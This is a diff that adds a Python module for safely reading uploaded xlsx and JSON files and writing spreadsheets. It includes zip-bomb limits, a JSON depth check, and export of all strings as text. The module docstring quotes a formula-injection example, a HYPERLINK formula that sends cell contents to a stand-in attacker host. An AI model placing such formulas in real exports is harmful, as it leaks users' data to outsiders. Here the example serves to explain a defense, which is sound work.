@@ -1,0 +1,170 @@
+"""The one way files and bodies from outside are read, and the one way spreadsheets are written.
+
+Reading (`read_xlsx`, `read_json`): bounded before the work is done, so a small crafted file cannot take a
+worker's memory or minutes. An .xlsx is a zip of XML: its members are decompressed once, counting, and the
+file is refused past `MAX_XLSX_UNCOMPRESSED` whatever sizes its headers claim (a shared-strings bomb of
+100 KB otherwise grew to 619 MB). openpyxl pads every row to the sheet's declared `<dimension>`
+(`A1:XFD8000` made a 1.6 KB file cost 1.26 GB), so the declared size is ignored, columns are read up to a
+bound and rows counted as they are read. JSON is parsed by the standard library, which stops at Python's
+recursion limit; anything nested deeper than `MAX_JSON_DEPTH` is refused, so nothing stored can break a
+later reader or writer that recurses.
+
+Writing (`new_workbook`, `append_row`): openpyxl stores a string that starts with "=" as a formula, so a
+name such as `=HYPERLINK("http://evil.example/?x="&A1,"点我")` would go live in an exported file. Every
+string cell goes out as text.
+
+Every import and export uses these; `zhijiao/core/tests/test_files.py` checks that no other module opens
+or creates workbooks itself.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import zipfile
+from typing import Any
+
+from django.utils.translation import gettext as _
+
+MAX_XLSX_UNCOMPRESSED = 64 * 1024 * 1024  # the XML of a 50,000-row roster is a few MB
+MAX_COLUMNS = 64
+MAX_JSON_DEPTH = 32  # xAPI extensions and catalog trees stay far below; 1,000 breaks the standard library
+
+
+class UnreadableFile(ValueError):
+    """A file refused before or while reading it; `str()` is a message for the person who sent it."""
+
+
+def read_xlsx(content: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS) -> list[tuple[str, list[tuple]]]:
+    """Every worksheet as (title, rows), each row a tuple of up to `max_columns` values (openpyxl's types).
+
+    Raises UnreadableFile for a file that is not a workbook, decompresses past the bound, or has a sheet
+    with more than `max_rows` rows (the header included)."""
+    _check_zip(content)
+    from openpyxl import load_workbook
+
+    try:
+        wb = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
+    except Exception:  # noqa: BLE001 - openpyxl raises many kinds for a damaged workbook
+        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
+    sheets = []
+    try:
+        for ws in wb.worksheets:
+            ws.reset_dimensions()  # read the rows that are there, not the size the file claims
+            rows = []
+            for values in ws.iter_rows(values_only=True, max_col=max_columns):
+                if len(rows) >= max_rows:
+                    raise UnreadableFile(_("工作表“%(s)s”超过 %(m)s 行，请拆分后分批导入。")
+                                         % {"s": ws.title, "m": max_rows - 1})
+                rows.append(_trimmed(values))
+            sheets.append((ws.title, rows))
+    except UnreadableFile:
+        raise
+    except Exception:  # noqa: BLE001 - a sheet that breaks openpyxl mid-way is a damaged file
+        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
+    finally:
+        wb.close()
+    return sheets
+
+
+def _trimmed(values: tuple) -> tuple:
+    """A row without its trailing empty cells (read-only rows are padded to the widest row read)."""
+    end = len(values)
+    while end and values[end - 1] is None:
+        end -= 1
+    return tuple(values[:end])
+
+
+def _check_zip(content: bytes) -> None:
+    try:
+        archive = zipfile.ZipFile(io.BytesIO(content))
+    except (zipfile.BadZipFile, OSError):
+        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
+    budget = MAX_XLSX_UNCOMPRESSED
+    with archive:
+        for info in archive.infolist():
+            if info.file_size > budget:  # what the header says: refuse at once when it says too much
+                raise _too_big()
+            try:
+                with archive.open(info) as member:  # and what it really holds, counted as it inflates
+                    while chunk := member.read(1024 * 1024):
+                        budget -= len(chunk)
+                        if budget < 0:
+                            raise _too_big()
+            except UnreadableFile:
+                raise
+            except Exception:  # noqa: BLE001 - a bad CRC, an unsupported method, a truncated member
+                raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
+
+
+def _too_big() -> UnreadableFile:
+    return UnreadableFile(_("Excel 文件解压后超过 %(m)s MB，不像是正常的表格，未读取。")
+                          % {"m": MAX_XLSX_UNCOMPRESSED // (1024 * 1024)})
+
+
+def read_json(content: bytes | str, *, max_depth: int = MAX_JSON_DEPTH) -> Any:
+    """The parsed JSON value. Raises UnreadableFile for bad UTF-8, bad JSON, or nesting deeper than
+    `max_depth` (objects and arrays)."""
+    try:
+        text = content.decode("utf-8-sig") if isinstance(content, bytes | bytearray) else content
+        value = json.loads(text)
+    except UnicodeDecodeError:
+        raise UnreadableFile(_("JSON 不是 UTF-8 编码。")) from None
+    except json.JSONDecodeError as exc:
+        raise UnreadableFile(_("JSON 无法解析：第 %(line)s 行第 %(col)s 列，%(msg)s。")
+                             % {"line": exc.lineno, "col": exc.colno, "msg": exc.msg}) from None
+    except RecursionError:
+        raise _too_deep(max_depth) from None
+    check_depth(value, max_depth)
+    return value
+
+
+def check_depth(value: Any, max_depth: int = MAX_JSON_DEPTH) -> None:
+    """Raise UnreadableFile when `value` nests objects and arrays deeper than `max_depth` (walked without
+    recursion)."""
+    stack = [(value, 1)]
+    while stack:
+        item, depth = stack.pop()
+        if isinstance(item, dict):
+            children = item.values()
+        elif isinstance(item, list):
+            children = item
+        else:
+            continue
+        if depth > max_depth:
+            raise _too_deep(max_depth)
+        stack.extend((child, depth + 1) for child in children if isinstance(child, dict | list))
+
+
+def _too_deep(max_depth: int) -> UnreadableFile:
+    return UnreadableFile(_("JSON 嵌套超过 %(n)s 层，未读取。") % {"n": max_depth})
+
+
+# --- writing ----------------------------------------------------------------------------------------
+
+def new_workbook(*, write_only: bool = False):
+    """An empty openpyxl Workbook; fill it with `append_row` only."""
+    from openpyxl import Workbook
+
+    return Workbook(write_only=write_only)
+
+
+def append_row(ws, values) -> None:
+    """Append `values` to worksheet `ws` (normal or write-only); strings always stay text, never formulas."""
+    from openpyxl.cell import WriteOnlyCell
+
+    row = []
+    for v in values:
+        if isinstance(v, str) and v.startswith("="):
+            cell = WriteOnlyCell(ws, value=v)
+            cell.data_type = "s"
+            row.append(cell)
+        else:
+            row.append(v)
+    ws.append(row)
+
+
+def workbook_bytes(wb) -> bytes:
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
